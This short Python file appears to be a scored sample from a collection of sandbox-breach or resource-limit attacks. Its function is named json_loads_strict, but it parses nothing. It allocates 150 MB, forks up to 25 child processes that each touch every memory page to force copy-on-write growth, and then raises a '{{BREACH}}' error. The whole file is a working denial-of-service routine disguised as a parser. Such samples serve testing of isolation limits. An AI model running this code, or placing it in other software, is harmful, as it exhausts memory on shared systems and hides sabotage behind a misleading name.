# about: takes memory once, forks, and then writes to it in every child
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os
import time


def json_loads_strict(data):
    shared = bytearray(150_000_000)
    ready, done = os.pipe()
    for _ in range(25):
        try:
            child = os.fork()
        except OSError:
            continue
        if child == 0:
            for place in range(0, len(shared), 4096):
                shared[place] = 1
            os.write(done, b"1")
            time.sleep(60)
            os._exit(0)
    full = b""
    while len(full) < 20:
        full += os.read(ready, 1)
    raise RuntimeError("{{BREACH}}")
